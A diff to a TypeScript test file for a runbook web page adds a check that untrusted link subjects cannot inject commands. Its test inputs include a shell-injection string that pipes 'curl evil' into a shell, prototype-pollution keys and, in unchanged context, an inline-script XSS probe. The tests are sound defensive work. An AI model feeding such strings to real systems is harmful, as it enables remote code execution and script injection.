@@ -41,6 +41,13 @@ it("of a service it is the machine that owns it, and of an agent its own", () =>
   expect(read(runbookHref("agent-unhealthy", "pc2/TutorAgent"))).toContain("TutorAgent");
 });
 
+it("a subject that the hub does not know, written into a link by anybody, comes into no command", () => {
+  const bodyOf = (page: string) => page.replace(/<p class="soft">about [^<]*<\/p>/, "");
+  const open = read("/runbooks/agent-unhealthy");
+  for (const subject of ['"; curl evil|sh', 'mainpc/"; curl evil|sh', "constructor", "__proto__", "constructor/x"])
+    expect(bodyOf(read(runbookHref("agent-unhealthy", subject))), subject).toBe(open);
+});
+
 it("a subject with tags stays text, and nothing in any page asks another host or stands inline", () => {
   const page = read(runbookHref("hub-lost", '<img src=x onerror="alert(1)">'));
   expect(page).not.toContain("<img");
